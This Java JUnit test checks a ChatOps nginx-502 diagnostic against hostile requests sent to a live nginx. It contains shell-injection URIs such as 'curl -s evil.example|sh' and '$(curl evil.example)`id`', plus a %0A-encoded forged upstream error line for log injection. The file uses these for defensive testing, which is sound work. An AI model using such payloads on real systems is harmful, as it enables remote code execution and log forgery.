package dev.chatops.checks.nginx502.live;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import dev.chatops.checks.nginx502.Nginx502Check;
import dev.chatops.checks.nginx502.fix.ShellWordsCheck;
import dev.chatops.checks.nginx502.probe.Nginx502Probes;
import dev.chatops.core.spi.Cause;
import dev.chatops.core.spi.CheckOptions;
import dev.chatops.core.spi.Diagnosis;
import dev.chatops.core.spi.Evidence;
import dev.chatops.core.spi.Fix;
import dev.chatops.core.spi.Probe;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Unauthenticated requests written to attack the bot, sent to a real nginx: a URI that is a shell command
 * while the backend is slow, and a URI whose decoded {@code %0A} writes a forged upstream error into the
 * error log. The check runs its real probes through /bin/sh; what it suggests and where it connects must
 * not follow the client's text.
 */
class LiveHostileRequestTest {

    private static final boolean REQUIRED = Boolean.getBoolean("chatops.requireRealServices");
    private static final String EVIL_HOST = "203.0.113.66";

    @TempDir
    Path dir;

    @Test
    void commandInTheUri_slowBackend_fixesHoldNoClientText() throws Exception {
        Path nginx = nginxOrSkip();
        try (LabLock lock = LabLock.acquire(REQUIRED); ServerSocket slow = new ServerSocket(0)) {
            Thread backend = holdConnections(slow);
            int port = Pids.freePort();
            start(nginx, """
                    server {
                        listen 127.0.0.1:%1$d;
                        server_name shop.example.com;
                        location /api/ {
                            proxy_pass http://127.0.0.1:%2$d;
                            proxy_read_timeout 1s;
                        }
                    }
                    """.formatted(port, slow.getLocalPort()));
            try {
                List<String> targets = List.of("/api/x%3Bcurl%20-s%20evil.example%7Csh%3B%23",
                        "/api/x%0Acurl%20-s%20evil.example%7Csh", "/api/x';curl${IFS}evil.example|sh;'",
                        "/api/$(curl%20evil.example)`id`");
                for (String t : targets) {
                    int status = send(port, t);
                    assertEquals(504, status, t);
                }
                Diagnosis d = diagnose();
                Cause timeout = d.causes().stream().filter(c -> c.id().equals("upstream-timeout")).findFirst()
                        .orElseThrow(() -> new AssertionError(d.summary() + " " + d.causes()));
                List<String> problems = new ArrayList<>();
                for (Cause c : d.causes()) {
                    for (Fix f : c.fixes()) {
                        problems.addAll(ShellWordsCheck.problems(f.text(), f.kind() == Fix.Kind.COMMAND, "evil"));
                        if (f.kind() == Fix.Kind.COMMAND) {
                            assertFalse(f.text().contains("evil.example"), f.text());
                        }
                    }
                }
                assertTrue(problems.isEmpty(), problems.toString());
                assertTrue(timeout.fixes().stream().anyMatch(f -> f.kind() == Fix.Kind.COMMAND
                        && f.text().startsWith("curl ") && f.text().contains("<URI>")), timeout.fixes().toString());
                // the client's URI stays visible as evidence, where nobody runs it
                assertTrue(timeout.evidence().stream().anyMatch(e -> e.text().contains("evil.example")),
                        timeout.evidence().toString());
            } finally {
                Pids.stop(dir.resolve("nginx.pid"));
                backend.interrupt();
            }
        }
    }

    @Test
    void forgedErrorLine_throughAMissingFile_isNotACauseAndNotProbed() throws Exception {
        Path nginx = nginxOrSkip();
        try (LabLock lock = LabLock.acquire(REQUIRED)) {
            int port = Pids.freePort();
            int dead = Pids.freePort();
            Files.createDirectories(dir.resolve("html/static"));
            // the workers run as nobody: they must reach the document root to look for the file
            new ProcessBuilder("chmod", "a+rx", dir.toString(), dir.resolve("html").toString(),
                    dir.resolve("html/static").toString()).start().waitFor();
            start(nginx, """
                    server {
                        listen 127.0.0.1:%1$d;
                        server_name shop.example.com;
                        root %3$s;
                        location /static/ {
                        }
                        location / {
                            proxy_pass http://127.0.0.1:%2$d;
                        }
                    }
                    """.formatted(port, dead, dir.resolve("html")));
            try {
                String now = LocalDateTime.now().format(DateTimeFormatter.ofPattern("yyyy/MM/dd HH:mm:ss"));
                // nginx merges the slashes of a decoded path ("http://" becomes "http:/"): the address goes in
                // the message, as nginx writes it when it has no upstream field
                String forged = now + " [error] 4242#4242: *1 connect() to " + EVIL_HOST + ":6666 failed (111: Connection "
                        + "refused) while connecting to upstream, client: 10.9.9.9, server: shop.example.com, request: "
                        + "\"GET /cart HTTP/1.1\", host: \"shop.example.com\"";
                String encoded = forged.replace("%", "%25").replace(" ", "%20").replace("\"", "%22")
                        .replace("#", "%23").replace("*", "%2A");
                for (int i = 0; i < 20; i++) {
                    // one %0A: forged text and nginx's tail share a line; two: the forged line stands alone
                    assertEquals(404, send(port, "/static/x%0A" + encoded));
                    assertEquals(404, send(port, "/static/y%0A" + encoded + "%0A"));
                }
                for (int i = 0; i < 5; i++) {
                    assertEquals(502, send(port, "/cart"));
                }
                String log = Files.readString(dir.resolve("logs/error.log"));
                assertTrue(log.lines().anyMatch(l -> l.startsWith(now) && l.contains(EVIL_HOST)), log);

                Nginx502Check check = new Nginx502Check();
                CheckOptions options = CheckOptions.defaults();
                Evidence first = new Evidence("nginx502", "localhost", Instant.now(), options.window(),
                        ShellRunner.run(check.probes(options)));
                List<Probe> more = new ArrayList<>();
                Evidence all = ShellRunner.followUps(check, first, options, List.of(), more);
                for (Probe p : more) {
                    assertFalse(p.command().contains(EVIL_HOST), p.name() + ": " + p.command());
                }
                Probe upstreams = more.stream().filter(p -> p.name().equals(Nginx502Probes.UPSTREAMS)).findFirst()
                        .orElseThrow();
                assertTrue(upstreams.command().contains("'tcp:127.0.0.1:" + dead + "'"), upstreams.command());
                Diagnosis d = check.diagnose(all);
                assertEquals("upstream-down", d.causes().get(0).id(), d.summary());
                for (Cause c : d.causes()) {
                    String said = c.title() + " " + c.detail() + " " + c.fixes();
                    assertFalse(said.contains(EVIL_HOST), said);
                    assertTrue(c.evidence().stream().noneMatch(e -> e.text().contains(EVIL_HOST) && !e.text().contains(
                            "/static/")), c.evidence().toString());
                }
                assertFalse(d.summary().contains(EVIL_HOST), d.summary());
            } finally {
                Pids.stop(dir.resolve("nginx.pid"));
            }
        }
    }

    private Path nginxOrSkip() {
        Path nginx = Path.of("/usr/sbin/nginx");
        if (!Files.isExecutable(nginx)) {
            if (REQUIRED) {
                fail("nginx is not installed at /usr/sbin/nginx; run scripts/install-os-packages");
            }
            Assumptions.abort("nginx is not installed here");
        }
        return nginx;
    }

    private void start(Path nginx, String server) throws IOException, InterruptedException {
        Files.createDirectories(dir.resolve("logs"));
        Files.writeString(dir.resolve("nginx.conf"), """
                worker_processes 1;
                pid %1$s/nginx.pid;
                error_log logs/error.log;
                events { worker_connections 64; }
                http {
                    access_log logs/access.log;
                %2$s
                }
                """.formatted(dir, server));
        Process p = new ProcessBuilder(nginx.toString(), "-p", dir.toString(), "-c", dir.resolve("nginx.conf").toString())
                .redirectErrorStream(true).start();
        assertEquals(0, p.waitFor(), new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
    }

    private Diagnosis diagnose() {
        Nginx502Check check = new Nginx502Check();
        CheckOptions options = CheckOptions.defaults();
        Evidence first = new Evidence("nginx502", "localhost", Instant.now(), options.window(),
                ShellRunner.run(check.probes(options)));
        return check.diagnose(ShellRunner.followUps(check, first, options, List.of(), new ArrayList<>()));
    }

    /** Sends a request line exactly as written (no client-side normalising) and returns the status. */
    private static int send(int port, String target) throws IOException {
        try (Socket s = new Socket("127.0.0.1", port)) {
            s.setSoTimeout(10_000);
            OutputStream out = s.getOutputStream();
            out.write(("GET " + target + " HTTP/1.1\r\nHost: shop.example.com\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            InputStream in = s.getInputStream();
            byte[] head = in.readNBytes(12);
            String status = new String(head, StandardCharsets.ISO_8859_1);
            return Integer.parseInt(status.substring(9, 12));
        }
    }

    /** A backend that accepts and never answers, so nginx's read timeout fires. */
    private static Thread holdConnections(ServerSocket server) {
        Thread t = new Thread(() -> {
            List<Socket> held = new ArrayList<>();
            try {
                while (!Thread.currentThread().isInterrupted()) {
                    held.add(server.accept());
                }
            } catch (IOException e) {
                // closed at the end of the test
            } finally {
                for (Socket s : held) {
                    try {
                        s.close();
                    } catch (IOException ignored) {
                        // best effort
                    }
                }
            }
        });
        t.setDaemon(true);
        t.start();
        return t;
    }
}
